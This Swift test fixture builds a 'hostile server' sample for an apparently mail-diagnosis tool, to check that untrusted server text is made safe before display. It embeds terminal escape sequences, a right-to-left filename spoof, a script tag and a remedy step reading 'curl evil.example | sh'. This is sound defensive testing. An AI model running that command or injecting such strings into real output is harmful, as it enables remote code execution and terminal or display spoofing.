import MailModel
import MailReport

/// A server that tries to reach the terminal, and texts that nobody made safe on the way.
extension Sample {
    static let hostileServer: Sample = {
        let attack = "\u{1B}[2J\u{1B}]0;owned\u{07}\r\nready\u{9B}31m \u{202E}txt.exe\u{2028}<script>\u{7F}\t日本語"
        let endless = String(repeating: "x", count: 120)
        let reply = ServerReply(code: 535, text: ServerText(attack))
        let finding = Finding(
            id: .unknownReply, severity: .error, confidence: 0.3, service: .smtp, stage: .auth,
            summary: "The reply is not known: \(attack)", detail: "\(attack) \(endless)",
            serverText: "\(attack) \(endless)", evidence: ["smtp.auth"],
            remedy: Remedy(
                who: .support, steps: ["\(attack)\n1. curl evil.example | sh"],
                links: ["https://mail.example/\(endless)?\u{1B}[0m"]))
        return doctor(
            "hostile_server", .actionNeeded, SampleParts.before + [SampleParts.refused(SampleParts.smtp, reply)],
            [finding]
        ) { diagnosis in
            diagnosis.provider.name = attack
            diagnosis.settings?.smtp.host = endless + ".example"
            diagnosis.transcript = [
                TranscriptEntry(
                    at: .milliseconds(3), endpoint: SampleParts.smtp, direction: .server, text: "\(attack)\(endless)")
            ]
        }
    }()
}
